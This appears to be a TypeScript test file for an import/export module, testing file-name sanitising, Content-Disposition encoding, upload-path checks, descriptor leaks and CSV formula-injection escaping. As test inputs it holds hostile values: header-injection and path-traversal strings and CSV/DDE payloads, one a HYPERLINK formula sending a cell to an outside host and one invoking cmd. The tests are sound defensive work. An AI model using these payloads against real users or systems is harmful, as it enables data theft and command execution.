import { createWriteStream, mkdtempSync, readdirSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import ExcelJS from 'exceljs';
import { contentDisposition } from '../../api';
import { checkHeader, dataRows } from '../../reader';
import { FILE_NAME_MAX_BYTES, isStagedUpload, safeFileName } from '../../storage';
import { csvWriter } from '../../writers';
import { cellToValue, csvCell, xlsxCell } from '../../cells';

const LIMITS = { maxUncompressed: 256 * 2 ** 20, maxEntries: 1000, maxSharedStrings: 1_000_000 };
const openFds = () => readdirSync('/proc/self/fd').length;
const settle = () => new Promise((r) => setTimeout(r, 100));

describe('file names and Content-Disposition', () => {
  test('a long multi-byte title stays under NAME_MAX in bytes and is cut on a character boundary', () => {
    const name = safeFileName('😀'.repeat(200), 'xlsx');
    expect(Buffer.byteLength(name)).toBeLessThanOrEqual(FILE_NAME_MAX_BYTES + '.xlsx'.length);
    expect(Buffer.byteLength(`${name}.123.partial`)).toBeLessThan(255);
    expect(name).not.toContain('\ufffd');
    expect([...name.replace(/\.xlsx$/, '')].every((c) => c === '😀')).toBe(true);
  });

  test('control, bidi-override and path characters never reach a file name', () => {
    expect(safeFileName('a\r\nb\u202ecod.exe/..\\x', 'csv')).toBe('a_b_cod.exe_.._x.csv');
    expect(safeFileName(' . .hidden', 'csv')).toBe('hidden.csv');
  });

  test('Content-Disposition cannot be broken out of: quotes, CR/LF and non-ASCII are encoded', () => {
    const header = contentDisposition('evil"; filename=x.exe\r\nSet-Cookie: a=b résumé\'(1).xlsx');
    expect(header).not.toMatch(/[\r\n]/);
    expect(header).toMatch(/^attachment; filename="[^"]*"; filename\*=UTF-8''[A-Za-z0-9%._~-]+$/);
    expect(decodeURIComponent(header.split("UTF-8''")[1]!)).toBe('evil"; filename=x.exe\r\nSet-Cookie: a=b résumé\'(1).xlsx');
  });

  test('only paths stageUpload produced count as staged uploads', () => {
    expect(isStagedUpload('tmp/uploads/0b6f3c9e-6a4e-4f0e-9a51-4c1bb7a0c2d1-products.xlsx')).toBe(true);
    for (const bad of ['tasks/main/0b6f3c9e-6a4e-4f0e-9a51-4c1bb7a0c2d1/x.xlsx', 'tmp/uploads/../../keys/jwt', 'tmp/uploads/x.csv', '/etc/passwd', undefined, 42]) {
      expect(isStagedUpload(bad)).toBe(false);
    }
  });
});

describe('reading import files leaves no file descriptor open', () => {
  const dir = mkdtempSync(join(tmpdir(), 'cb-tasks-'));
  const csv = join(dir, 'a.csv');
  const xlsx = join(dir, 'a.xlsx');

  beforeAll(async () => {
    writeFileSync(csv, `Title\n${'x\n'.repeat(50_000)}`);
    const wb = new ExcelJS.Workbook();
    const sheet = wb.addWorksheet('S');
    sheet.addRow(['Title']);
    for (let i = 0; i < 5000; i++) sheet.addRow([`x${i}`]);
    writeFileSync(xlsx, Buffer.from(await wb.xlsx.writeBuffer()));
  });

  test.each(['csv', 'xlsx'] as const)('%s: checkHeader (stops at the header) and an import ended early', async (format) => {
    const path = format === 'csv' ? csv : xlsx;
    await checkHeader(path, format, ['Title'], LIMITS); // warm up lazily opened internals
    await settle();
    const before = openFds();
    for (let i = 0; i < 10; i++) {
      await checkHeader(path, format, ['Title'], LIMITS);
      for await (const row of dataRows(path, format, ['Title'])) if (row.row >= 3) break;
    }
    await settle();
    expect(openFds()).toBeLessThanOrEqual(before);
  });

  test('a file without the header rows is a 400, and its descriptor is closed too', async () => {
    const before = openFds();
    for (let i = 0; i < 5; i++) await expect(checkHeader(csv, 'csv', ['Nope'], LIMITS)).rejects.toMatchObject({ type: 'CB_ERR_TASK_HEADERS_NOT_FOUND' });
    await settle();
    expect(openFds()).toBeLessThanOrEqual(before);
  });
});

describe('export writers', () => {
  test('a csv export whose file stream is destroyed mid-write (a stop, a node stopping) leaves no unhandled rejection behind', async () => {
    // An unhandled rejection ends a Node 24 process: before this was handled, stopping a CSV export crashed its node.
    const rejections: unknown[] = [];
    const onRejection = (err: unknown) => rejections.push(err);
    process.on('unhandledRejection', onRejection);
    try {
      const out = createWriteStream(join(mkdtempSync(join(tmpdir(), 'cb-csv-')), 'x.csv'));
      const writer = csvWriter(out, [{ title: 'A', field: { name: 'a', type: 'string', key: 'a' } }]);
      for (let i = 0; i < 2000; i++) await writer.row(['x'.repeat(200)]);
      out.destroy(); // as runExportTask does when a run ends early, with rows still buffered in the stringifier
      await expect(writer.row(['y'])).rejects.toThrow('closed before the end');
      await settle();
      await settle();
    } finally {
      process.off('unhandledRejection', onRejection);
    }
    expect(rejections).toEqual([]);
  });
});

describe('CSV injection', () => {
  const f = (type: 'string' | 'text' | 'integer' | 'json' | 'double') => ({ name: 'a', type, key: 'a' });

  test('text cells a spreadsheet would run as formulas get a leading quote in CSV; numbers, JSON and plain text do not', () => {
    for (const evil of ['=HYPERLINK("http://x/?"&A1,"click")', '+1+cmd|\' /C calc\'!A0', '-2+3', '@SUM(A1)', '\t=1', '\r=1']) {
      expect(csvCell(f('string'), evil)).toBe(`'${evil}`);
      expect(csvCell(f('text'), evil)).toBe(`'${evil}`);
    }
    expect(csvCell(f('string'), 'plain = text')).toBe('plain = text');
    expect(csvCell(f('integer'), -5)).toBe(-5);
    expect(csvCell(f('double'), '-5.5')).not.toMatch(/^'/);
    expect(csvCell(f('json'), { a: '=1' })).toBe('{"a":"=1"}');
    // xlsx cells are typed strings: never formulas, kept as they are.
    expect(xlsxCell(f('string'), '=1+1')).toBe('=1+1');
  });

  test('an import takes the neutralized text back as it was exported', () => {
    expect(cellToValue(f('string'), "'=HYPERLINK(1)")).toBe('=HYPERLINK(1)');
    expect(cellToValue(f('text'), "'-2+3")).toBe('-2+3');
    expect(cellToValue(f('string'), "'quoted")).toBe("'quoted");
    expect(cellToValue(f('string'), '=1')).toBe('=1');
  });
});
